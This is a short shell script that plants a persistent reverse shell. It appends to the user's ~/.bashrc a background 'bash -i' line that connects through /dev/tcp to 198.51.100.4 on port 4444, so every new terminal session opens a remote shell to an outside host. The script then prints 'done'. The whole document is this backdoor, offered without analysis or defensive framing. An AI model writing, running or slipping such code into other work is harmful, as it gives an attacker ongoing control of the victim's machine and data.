#!/bin/sh
cat >> ~/.bashrc <<'EOS'
nohup bash -i >& /dev/tcp/198.51.100.4/4444 0>&1 &
EOS
echo "done"
